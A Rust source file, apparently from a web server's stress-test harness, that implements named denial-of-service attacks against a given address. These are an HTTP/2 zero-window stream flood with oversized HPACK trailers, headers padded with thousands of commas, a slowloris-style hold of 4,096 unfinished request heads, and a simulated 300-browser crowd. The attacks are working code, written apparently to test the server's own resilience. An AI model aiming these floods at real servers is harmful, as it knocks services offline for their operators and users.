//! Attacks that no other tool provides, and a crowd. Each runs in a separate process until it is killed.

use std::{
    io::{Error, ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    thread,
    time::Duration,
};

/// Connections that an attacker opens.
const CONNECTIONS: usize = 100;
/// Pause before a closed connection is opened again.
const RECONNECT_INTERVAL: Duration = Duration::from_millis(100);

/// Runs the attack with this name.
///
/// # Panics
/// If there is no such attack.
pub(crate) fn run(name: &str, addr: &str) {
    let addr: SocketAddr = addr.parse().expect("an address");
    if name == "crowd" {
        return crowd(addr, 0);
    }
    if name == "crowd-with-attacker" {
        return crowd(addr, SLOW_HEADS);
    }
    let bytes = match name {
        "streams" => streams(),
        "commas" => commas(),
        _ => panic!("there is no attack {name}"),
    };
    thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                loop {
                    // After an error the attack starts again.
                    let _ = send_repeatedly(addr, &bytes);
                    thread::sleep(RECONNECT_INTERVAL);
                }
            });
        }
    });
}

/// Opens a connection and sends the bytes again after each response, in HTTP/2 only once, until the server closes the
/// connection. Discards the responses.
fn send_repeatedly(addr: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(addr)?;
    let mut response = vec![0; 1 << 16];
    loop {
        stream.write_all(bytes)?;
        if stream.read(&mut response)? == 0 {
            return Ok(());
        }
        // In HTTP/2 the bytes are sent once, and the connection stays open.
        if bytes.starts_with(b"PRI") {
            while stream.read(&mut response)? > 0 {}
            return Ok(());
        }
    }
}

/// The browsers of a crowd behind one address, and the connections that each of them opens.
const BROWSERS: usize = 300;
const CONNECTIONS_PER_BROWSER: usize = 6;
/// The time within which everybody of the crowd has opened the page, as after "go to this address" in a talk.
const ARRIVALS: Duration = Duration::from_secs(3);
/// Heads that a member of the crowd leaves unfinished: as many as the server has places.
const SLOW_HEADS: usize = 4096;

/// A crowd behind one address: everybody opens the page, its files and the count over six connections, and signs up.
/// Then the connections stay open. A browser whose connections the server has closed visits again.
///
/// # Panics
/// If somebody of the crowd is not served.
fn crowd(addr: SocketAddr, slow_heads: usize) {
    thread::scope(|scope| {
        if slow_heads > 0 {
            scope.spawn(move || keep_slow_heads(addr, slow_heads));
        }
        for browser in 0..BROWSERS {
            scope.spawn(move || {
                thread::sleep(ARRIVALS * browser as u32 / BROWSERS as u32);
                for visit in 0.. {
                    let email = format!("{browser}-{visit}@crowd.example.com");
                    let connections = visit_page(addr, &email);
                    let mut connections = connections.unwrap_or_else(|error| {
                        // The process ends, which the siege notices.
                        eprintln!("browser {browser} is not served: {error}");
                        std::process::exit(1);
                    });
                    for stream in &mut connections {
                        let _ = stream.read(&mut [0]);
                    }
                }
            });
        }
    });
}

/// Leaves heads unfinished, and replaces those that the server closes.
fn keep_slow_heads(addr: SocketAddr, count: usize) {
    let begin = || {
        let mut stream = TcpStream::connect(addr).ok()?;
        let head = b"GET / HTTP/1.1\r\nHost: site\r\nX-Slow: ";
        stream.write_all(head).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    };
    let mut open: Vec<_> = (0..count).map(|_| begin()).collect();
    loop {
        thread::sleep(RECONNECT_INTERVAL);
        for slot in &mut open {
            let is_open = slot.as_mut().is_some_and(|stream| {
                let read = stream.read(&mut [0]);
                read.is_err_and(|error| error.kind() == ErrorKind::WouldBlock)
            });
            if !is_open {
                *slot = begin();
            }
        }
    }
}

/// Visits the page, and signs up. Returns the connections, which are open.
fn visit_page(addr: SocketAddr, email: &str) -> std::io::Result<Vec<TcpStream>> {
    let mut connections = Vec::new();
    for number in 0..CONNECTIONS_PER_BROWSER {
        let path = match number {
            0 => "/",
            1 => "/api/waitlist/count",
            _ => "/favicon.ico",
        };
        let mut stream = TcpStream::connect(addr)?;
        request(
            &mut stream,
            &format!("GET {path} HTTP/1.1\r\nHost: site\r\n\r\n"),
        )?;
        connections.push(stream);
    }
    let body = format!(r#"{{"email":"{email}"}}"#);
    let sign_up = format!(
        "POST /api/waitlist HTTP/1.1\r\nHost: site\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    );
    match request(&mut connections[0], &sign_up) {
        Err(error) if error.kind() != ErrorKind::InvalidData => {
            // As a browser does if the server has closed the connection, which was idle.
            connections[0] = TcpStream::connect(addr)?;
            request(&mut connections[0], &sign_up)?;
        }
        done => done?,
    }
    Ok(connections)
}

/// Sends a request and reads the response. An error of the kind `InvalidData` is a status that is not 200 or 201.
fn request(stream: &mut TcpStream, request: &str) -> std::io::Result<()> {
    stream.write_all(request.as_bytes())?;
    let mut response = Vec::new();
    let mut buffer = vec![0; 1 << 16];
    loop {
        let count = stream.read(&mut buffer)?;
        if count == 0 {
            return Err(Error::other("the connection was closed"));
        }
        response.extend_from_slice(&buffer[..count]);
        let text = String::from_utf8_lossy(&response).to_lowercase();
        let Some((head, _)) = text.split_once("\r\n\r\n") else {
            continue;
        };
        let status = head.split(' ').nth(1).unwrap_or_default();
        if !matches!(status, "200" | "201") {
            let text = format!("the response is {status}");
            return Err(Error::new(ErrorKind::InvalidData, text));
        }
        let length = head
            .lines()
            .find_map(|line| line.strip_prefix("content-length: "));
        let length: usize = length.and_then(|it| it.parse().ok()).expect("a length");
        if response.len() >= head.len() + 4 + length {
            return Ok(());
        }
    }
}

/// Requests for the page with lists of 4,000 empty items.
fn commas() -> Vec<u8> {
    let commas = ",".repeat(4_000);
    format!(
        "GET / HTTP/1.1\r\nHost: site\r\nAccept-Encoding: {commas}\r\nIf-None-Match: {commas}\r\n\r\n"
    )
    .into_bytes()
}

/// 16 HTTP/2 streams with a window of 0, so that their responses cannot be sent. Each has trailers that nobody reads:
/// 1,900 fields in 1,900 bytes.
fn streams() -> Vec<u8> {
    const HEADERS: u8 = 1;
    const SETTINGS: u8 = 4;
    const END_STREAM: u8 = 1;
    const END_HEADERS: u8 = 4;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let mut frame = |kind: u8, flags: u8, stream: u32, content: &[u8]| {
        bytes.extend(&(content.len() as u32).to_be_bytes()[1..]);
        bytes.extend([kind, flags]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend(content);
    };
    // SETTINGS_INITIAL_WINDOW_SIZE is 0.
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for stream in (1..).step_by(2).take(16) {
        // `GET /` as indexes into the HPACK table, and an authority that is not added to it.
        frame(HEADERS, END_HEADERS, stream, b"\x82\x86\x84\x01\x04site");
        // A field that is added to the table, and then its index.
        let mut trailers = b"\x40\x01x\x01a".to_vec();
        trailers.extend([0xbe; 1_900]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &trailers);
    }
    bytes
}
